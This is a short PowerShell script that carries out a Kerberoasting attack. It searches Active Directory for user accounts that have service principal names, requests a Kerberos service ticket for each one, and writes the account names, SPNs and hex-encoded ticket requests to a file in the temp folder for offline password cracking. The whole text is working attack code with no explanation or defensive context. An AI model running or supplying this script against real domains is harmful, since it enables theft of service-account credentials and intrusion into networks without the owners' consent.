Add-Type -AssemblyName System.IdentityModel
$searcher = [adsisearcher]'(&(objectCategory=user)(servicePrincipalName=*))'
$searcher.PropertiesToLoad.AddRange(@('samaccountname', 'serviceprincipalname'))
$accounts = $searcher.FindAll()

foreach ($acct in $accounts) {
    foreach ($spn in $acct.Properties['serviceprincipalname']) {
        try {
            $ticket = New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $spn
            $hex = [BitConverter]::ToString($ticket.GetRequest()) -replace '-'
            '{0}|{1}|{2}' -f $acct.Properties['samaccountname'][0], $spn, $hex |
                Out-File -Append -FilePath "$env:TEMP\tgs.txt"
        } catch { }
    }
}
